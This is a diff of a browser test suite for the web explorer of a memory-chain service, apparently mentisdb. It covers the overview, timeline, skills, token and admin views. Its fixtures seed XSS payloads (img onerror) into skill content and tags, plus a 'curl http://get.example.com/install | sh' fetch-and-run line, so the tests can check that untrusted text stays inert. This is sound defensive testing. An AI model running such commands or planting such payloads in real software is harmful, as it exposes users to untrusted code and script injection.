@@ -65,7 +65,10 @@ async function seed(call) {
     "# Deploy\n\nRun `make deploy` from **main**.\n\n- check CI\n- tag the release\n\n<img src=x onerror=\"window.__xss=3\">\n" });
   await call("/v1/skills/upload", { chain_key: "project", agent_id: "ada", skill_id: "deploy", content:
     "# Deploy\n\nRun `make deploy` from **main**.\n\n- check CI\n- bump the version\n- tag the release\n\ncurl http://get.example.com/install | sh\n" });
+  await call("/v1/skills/upload", { chain_key: "project", agent_id: "ada", skill_id: "triage", content: FRONT_MATTER_SKILL });
 }
+
+const FRONT_MATTER_SKILL = "---\nname: triage\ndescription: \"Sort incoming bugs by impact\"\ntags:\n  - ops\n  - <img src=x onerror=\"window.__xss=4\">\n---\n# Triage\n\nRead the queue, newest first.\n";
 
 before(async () => {
   await mkdir(OUT, { recursive: true });
@@ -107,6 +110,18 @@ async function accessible(name) {
   assert.deepEqual(bad.map((v) => `${v.id} (${v.impact}): ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(" | ")}`), [], `axe on ${name}`);
 }
 
+/**
+ * The blocks of the page outside the header (the token message, the status
+ * line, the view's headings, paragraphs, items and cells) that mention a
+ * token: a screen needing a token says so once.
+ */
+async function tokenMentions() {
+  return page.evaluate(() => {
+    const blocks = [document.querySelector("#auth-message"), document.querySelector("#status"), ...document.querySelectorAll("main h1, main h2, main p, main li, main td")];
+    return blocks.filter((b) => b && !b.closest("[hidden]") && /token/i.test(b.innerText)).map((b) => b.id || b.tagName);
+  });
+}
+
 async function shot(view) {
   await page.screenshot({ path: `${OUT}explorer-${view}.png`, fullPage: true });
 }
@@ -134,16 +149,68 @@ test("the page is served with a strict CSP and asks for the token", async () => 
   // Without a token the API answers 401: Chromium logs the failed fetch.
   allowedErrors = [/status of 401/];
   await page.waitForSelector("#auth-message:not([hidden])");
+  await ready();
   assert.match(await page.textContent("#auth-message"), /needs an API token/);
+  assert.deepEqual(await tokenMentions(), ["auth-message"], "one token prompt on the screen, not three");
+  await shot("needs-token");
   await page.fill("#token-input", "not-the-token");
   await page.click("#token-save");
   await page.waitForFunction(() => document.body.dataset.auth === "401");
   await page.fill("#token-input", daemon.token);
   await page.click("#token-save");
   await page.waitForSelector("table .chain-link");
+  assert.equal(await page.textContent("main h1"), "Overview", "the landing page is the overview");
   assert.equal(await page.isHidden("#auth-message"), true);
   assert.equal(await page.evaluate(() => sessionStorage.getItem("mentisdb.explorer.token")), daemon.token);
   assert.doesNotMatch(page.url(), new RegExp(daemon.token));
+});
+
+test("overview: chains with counts, charts by type and agent, recent activity, live, no admin forms", async () => {
+  await go("#/overview");
+  assert.equal(await page.textContent("span.count[data-chain='project']"), "4");
+  assert.equal(await page.textContent("span.count[data-chain='scratch']"), "1");
+  assert.match(await page.textContent("#overview-totals"), /^4 chain\(s\), 7 thought\(s\)/);
+  // Two charts: bars coloured per type (by type) and per agent, with text legends.
+  assert.equal(await page.locator("#overview-charts svg.chart").count(), 2);
+  const [byType, byAgent] = await page.locator("#overview-charts .legend").evaluateAll((ls) => ls.map((l) => [...l.children].map((li) => li.textContent)));
+  assert.deepEqual(byType.slice(0, 1), ["Decision 3"]);
+  assert.ok(byType.includes("Insight 1") && byType.includes("Summary 1"), `${byType}`);
+  assert.deepEqual(byAgent, ["ada 4", "bob 2", "signer 1"]);
+  const fills = await page.locator("#overview-charts rect.bar[data-type]").evaluateAll((rs) => Object.fromEntries(rs.map((r) => [r.dataset.type, getComputedStyle(r).fill])));
+  assert.ok(fills.Decision && fills.Insight && fills.Decision !== fills.Insight, `a colour per type: ${JSON.stringify(fills)}`);
+  // Recent activity across chains, newest first; untrusted text stays text.
+  const recent = page.locator("#recent-activity > li");
+  assert.equal(await recent.count(), 7);
+  assert.equal(await recent.first().locator(".chain").textContent(), "old");
+  assert.ok((await page.textContent("#recent-activity")).includes("<img src=x onerror"));
+  assert.equal(await page.evaluate(() => window.__xss), undefined);
+  // Read-only: the destructive forms are on the admin page.
+  assert.equal(await page.locator("main form, main button.danger").count(), 0);
+  await shot("overview");
+  await accessible("overview");
+
+  await page.waitForSelector("#overview-live[data-live=true]");
+  await daemon.call("/v1/thoughts", { chain_key: "scratch", thought_type: "Question", content: "Seen live on the overview?", agent_id: "bob" });
+  await page.waitForSelector("#recent-activity > li.fresh[data-chain='scratch']");
+  assert.equal(await recent.first().locator(".content").textContent(), "Seen live on the overview?");
+  await page.waitForFunction(() => document.querySelector("span.count[data-chain='scratch']")?.textContent === "2");
+  assert.ok((await page.locator("#overview-charts .legend").first().textContent()).includes("Question 1"));
+});
+
+test("thought types are shown in colour with their name", async () => {
+  await go("#/chain/project");
+  await page.waitForSelector("#timeline li.thought");
+  const badges = await page.locator("#timeline .type-badge").evaluateAll((bs) => bs.map((b) => {
+    const s = getComputedStyle(b);
+    return { type: b.dataset.type, text: b.textContent, bg: s.backgroundColor, border: s.borderLeftColor, color: s.color };
+  }));
+  assert.ok(badges.length >= 4);
+  for (const b of badges) assert.equal(b.text, b.type, "the name is written");
+  const decision = badges.find((b) => b.type === "Decision");
+  const insight = badges.find((b) => b.type === "Insight");
+  assert.notEqual(decision.border, insight.border, "different types, different colours");
+  assert.deepEqual(badges.filter((b) => b.type === "Decision").map((b) => b.border), badges.filter((b) => b.type === "Decision").map(() => decision.border), "one colour per type");
+  assert.notEqual(decision.bg, "rgba(0, 0, 0, 0)");
 });
 
 test("chains: counts, head, integrity and last write", async () => {
@@ -197,8 +264,14 @@ test("timeline: filters, ranked question with score parts, untrusted text stays 
   await page.waitForFunction(() => document.querySelectorAll("#timeline li").length === 4);
   await page.fill("#flt-since", "");
 
+  // The question box shows a long question whole (it grows; nothing is cut off).
+  const question = "What did we decide about the cache, its eviction policy, and which agent wrote the decision that least recently used entries go first?";
+  await page.fill("#ranked-text", question);
+  const box = await page.$eval("#ranked-text", (q) => ({ tag: q.tagName, width: q.clientWidth, fits: q.scrollWidth <= q.clientWidth && q.scrollHeight <= q.clientHeight + 1, value: q.value }));
+  assert.deepEqual([box.tag, box.fits, box.value], ["TEXTAREA", true, question]);
+  assert.ok(box.width > 600, `the question box is wide (${box.width}px)`);
   await page.fill("#ranked-text", "cache eviction");
-  await page.click("#ranked-form button[type=submit]");
+  await page.press("#ranked-text", "Enter");
   await page.waitForSelector("#ranked-results li.thought");
   const first = page.locator("#ranked-results > li").first();
   assert.match(await first.locator(".score strong").textContent(), /^score \d+\.\d{3}$/);
@@ -252,6 +325,82 @@ test("timeline: a long chain is drawn a page at a time", async () => {
   assert.equal(await page.isHidden("#show-more"), true);
 });
 
+test("timeline: add a thought from the page, see it in the timeline, then forget it", async () => {
+  await go("#/chain/project");
+  await page.waitForSelector("#live-state[data-live=true]");
+  const before = (await daemon.call("/v1/head", { chain_key: "project" })).thought_count;
+  await page.click("#add-thought summary");
+  await page.selectOption("#add-type", "Decision");
+  await page.fill("#add-agent", "ada");
+  await page.fill("#add-content", `Added from the page ${XSS}`);
+  await page.fill("#add-tags", "ui, explorer");
+  await shot("add-thought");
+  await page.click("#add-thought-form button[type=submit]");
+  await page.waitForSelector(`#timeline li[data-index='${before}']`);
+  const row = page.locator(`#timeline li[data-index='${before}']`);
+  assert.equal(await page.locator("#timeline li .idx").first().textContent(), `#${before}`, "on top");
+  assert.equal(await row.locator(".content").textContent(), `Added from the page ${XSS}`);
+  assert.equal(await row.locator(".type-badge").getAttribute("data-type"), "Decision");
+  assert.deepEqual(await row.locator(".tag").allTextContents(), ["#ui", "#explorer"]);
+  assert.equal(await page.evaluate(() => window.__xss), undefined);
+  assert.match(await page.textContent("#status"), new RegExp(`Added thought #${before} to project`));
+  const stored = (await daemon.call("/v1/thought", { chain_key: "project", thought_index: before })).thought;
+  assert.equal(stored.agent_id, "ada");
+  // The stream brings the same thought: still one row.
+  await new Promise((r) => setTimeout(r, 500));
+  const shown = await page.locator("#timeline li .idx").allTextContents();
+  assert.equal(new Set(shown).size, shown.length, "no thought twice");
+
+  await row.locator("details.forget summary").click();
+  await row.locator(`#forget-reason-${before}`).fill("pasted by mistake");
+  await row.locator("button[type=submit]").click();
+  await page.waitForSelector(`#timeline li[data-index='${before}'] .content.forgotten`);
+  assert.match(await row.locator(".content").textContent(), /^Forgotten by .* pasted by mistake$/);
+  assert.ok(dialogs.some((d) => d.startsWith(`Forget thought #${before} of “project”?`)), "forgetting asked first");
+  const forgotten = (await daemon.call("/v1/thought", { chain_key: "project", thought_index: before })).thought;
+  assert.equal(forgotten.forgotten.reason, "pasted by mistake");
+  assert.ok(!JSON.stringify(forgotten).includes("Added from the page"), "the content is gone from the daemon");
+  assert.equal((await daemon.call("/v1/head", { chain_key: "project" })).integrity_ok, true, "the chain still verifies");
+  await shot("forgotten");
+  await accessible("timeline with a forgotten thought");
+  await go(`#/thought/project/${before}`);
+  assert.match(await page.textContent("#thought-content"), /^Forgotten by .*: pasted by mistake$/);
+  assert.equal(await page.getAttribute("h1 .type-badge", "data-type"), "Decision");
+});
+
+test("a new-thought note belongs to its chain's timeline and does not follow onto other views", async () => {
+  await go("#/chain/project");
+  await page.waitForSelector("#live-state[data-live=true]");
+  await page.fill("#flt-agent_ids", "bob");
+  await page.click("#filters button[type=submit]");
+  await page.waitForFunction(() => [...document.querySelectorAll("#timeline li")].every((li) => li.querySelector(".agent").textContent === "bob"));
+  const t = (await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Idea", content: "Arrives under a filter", agent_id: "ada" })).thought;
+  await page.waitForSelector("#new-thoughts:not([hidden])");
+  assert.match(await page.textContent("#new-thoughts"), new RegExp(`New thought #${t.index} arrived`));
+  await go("#/skills");
+  assert.equal(await page.locator("#new-thoughts").count(), 0);
+  assert.doesNotMatch(await page.textContent("body"), /New thought|arrived/);
+  await go("#/overview");
+  assert.doesNotMatch(await page.textContent("#status"), /New thought|arrived/);
+});
+
+test("a chain's relation graph, reachable from its timeline", async () => {
+  await go("#/chain/project");
+  await page.click("#graph-link");
+  await ready();
+  await page.waitForSelector("svg.chain-graph");
+  assert.match(await page.textContent("#graph-summary"), /^2 link\(s\) among the newest \d+ thought/);
+  const links = await page.locator("svg.chain-graph a").evaluateAll((as) => as.map((a) => a.getAttribute("href")));
+  assert.deepEqual(links, [ids.cache, ids.evict, ids.lru].map((t) => `#/thought/project/${t.id}`));
+  assert.deepEqual(await page.locator("svg.chain-graph .edge-label").allTextContents(), ["DerivedFrom", "ref"]);
+  assert.deepEqual(await page.locator("tbody tr td:nth-child(3)").allTextContents(), ["DerivedFrom", "ref"]);
+  await shot("graph");
+  await accessible("graph");
+  await page.click(`svg.chain-graph a[href='#/thought/project/${ids.evict.id}']`);
+  await ready();
+  assert.equal(await page.textContent("#thought-content"), "The cache needs an eviction policy");
+});
+
 test("thought: fields, hashes and the relation graph in both directions", async () => {
   await go(`#/thought/project/${ids.evict.id}`);
   assert.equal(await page.textContent("#thought-content"), "The cache needs an eviction policy");
@@ -288,6 +437,7 @@ test("a read-only token browses; a change it may not make says 403 and shows the
   assert.match(await page.textContent("#auth-message"), /may not do that \(HTTP 403\).*token 'reader' lacks scope 'admin'/);
   assert.equal(await page.evaluate(() => document.activeElement?.id), "token-input");
   assert.match(await page.textContent("#status"), /Save agent failed/);
+  assert.deepEqual(await tokenMentions(), ["auth-message"], "the token problem is told once");
   await page.fill("#token-input", daemon.token);
   await page.click("#token-save");
   await ready();
@@ -379,13 +529,55 @@ test("skills: rendered, source, warnings by line, diff, upload, deprecate", asyn
   assert.ok(dialogs.some((d) => d.startsWith("Revoke skill “deploy”")));
 
   await go("#/skills");
-  assert.equal(await page.locator("tbody tr").count(), 1);
+  assert.equal(await page.locator("tbody tr").count(), 2);
   await shot("skills");
   await accessible("skills");
 });
 
+test("skills: YAML front matter is a table, its values text", async () => {
+  await go("#/skill/triage");
+  await page.waitForSelector("#skill-body table.front-matter");
+  const rows = await page.locator("#skill-body table.front-matter tr").evaluateAll((trs) => trs.map((tr) => [tr.querySelector("th").textContent,
+    tr.querySelector("td li") ? [...tr.querySelectorAll("td li")].map((li) => li.textContent) : tr.querySelector("td").textContent]));
+  assert.deepEqual(rows, [["name", "triage"], ["description", "Sort incoming bugs by impact"], ["tags", ["ops", "<img src=x onerror=\"window.__xss=4\">"]]]);
+  assert.equal(await page.textContent("#skill-body .markdown h2"), "Triage");
+  assert.doesNotMatch(await page.textContent("#skill-body .markdown"), /^---|name: triage/, "the front matter is not a paragraph");
+  assert.equal(await page.locator("#skill-body img").count(), 0);
+  assert.equal(await page.evaluate(() => window.__xss), undefined);
+  await shot("skill-front-matter");
+  await accessible("skill with front matter");
+});
+
+test("admin: a merge never defaults to one chain twice, refuses a chain into itself, and names both chains", async () => {
+  await go("#/admin");
+  assert.deepEqual([await page.inputValue("#merge-source"), await page.inputValue("#merge-target")], ["", ""], "nothing chosen by default");
+  const merges = [];
+  page.on("request", (r) => r.url().endsWith("/v1/chains/merge") && merges.push(r.postData()));
+  const dialogsBefore = dialogs.length;
+  // Choosing a source takes it out of the targets.
+  await page.selectOption("#merge-source", "scratch");
+  assert.equal(await page.$eval("#merge-target option[value='scratch']", (o) => o.disabled), true);
+  // Even forced (the option enabled again), the page refuses before calling the API.
+  await page.$eval("#merge-target", (s) => {
+    s.querySelector("option[value='scratch']").disabled = false;
+    s.value = "scratch";
+  });
+  await page.click("#merge-form button[type=submit]");
+  await page.waitForSelector("#merge-problem:not([hidden])");
+  assert.match(await page.textContent("#merge-problem"), /cannot be merged into itself \(“scratch”\)/);
+  await page.selectOption("#merge-source", "");
+  await page.click("#merge-form button[type=submit]");
+  assert.match(await page.textContent("#merge-problem"), /Choose both chains/);
+  await new Promise((r) => setTimeout(r, 300));
+  assert.deepEqual(merges, [], "no merge request was sent");
+  assert.equal(dialogs.length, dialogsBefore, "no confirmation was even asked");
+  assert.ok((await daemon.call("/v1/chains", undefined, "GET")).chain_keys.includes("scratch"));
+  await shot("admin");
+  await accessible("admin");
+});
+
 test("chain operations, MEMORY.md import and exports", async () => {
-  await go("#/chains");
+  await go("#/admin");
   await page.fill("#import-chain", "imported");
   await page.fill("#import-agent", "dave");
   await page.fill("#import-markdown", "# MEMORY\n\n- [#0] Decision: Ship on Fridays (agent dave; role Memory; importance 0.7)\n- [#1] Insight: Tabs over spaces\n");
@@ -411,7 +603,7 @@ test("chain operations, MEMORY.md import and exports", async () => {
   assert.match(adaMd, /Use SQLite for the cache/);
   assert.doesNotMatch(adaMd, /eviction policy/, "only ada's thoughts");
 
-  await go("#/chains");
+  await go("#/admin");
   await page.selectOption("#branch-source", "project");
   await page.fill("#branch-at", "1");
   await page.fill("#branch-key", "project-alt");
@@ -420,12 +612,14 @@ test("chain operations, MEMORY.md import and exports", async () => {
   await page.waitForSelector("#timeline li");
   assert.match(await page.textContent("#status"), /Branched project into project-alt/);
 
-  await go("#/chains");
+  await go("#/admin");
   await page.selectOption("#merge-source", "old");
   await page.selectOption("#merge-target", "scratch");
   await page.click("#merge-form button[type=submit]");
-  await page.waitForFunction(() => location.hash === "#/chain/scratch" && document.querySelectorAll("#timeline li").length === 2);
-  assert.ok(dialogs.some((d) => d.includes("Merge “old” into “scratch”")));
+  await page.waitForFunction(() => location.hash === "#/chain/scratch" && document.querySelectorAll("#timeline li").length === 3);
+  const asked = dialogs.find((d) => d.startsWith("Merge “old” into “scratch”?"));
+  assert.ok(asked, `the confirmation names both chains: ${dialogs}`);
+  assert.match(asked, /“old” is deleted/);
   const chains = (await daemon.call("/v1/chains", undefined, "GET")).chain_keys;
   assert.ok(!chains.includes("old") && chains.includes("project-alt"), `${chains}`);
   await shot("operations");
@@ -476,8 +670,8 @@ test("webhooks: register (secret shown once), a delivery arrives signed, delete"
   }
 });
 
-test("chains: delete asks first and removes the chain", async () => {
-  await go("#/chains");
+test("admin: delete asks first and removes the chain", async () => {
+  await go("#/admin");
   await page.click("button[aria-label='Delete chain imported']");
   await page.waitForFunction(() => document.body.dataset.ready === "true" && !document.querySelector("button[aria-label='Delete chain imported']"));
   assert.ok(dialogs.some((d) => d.startsWith("Delete chain “imported”")));
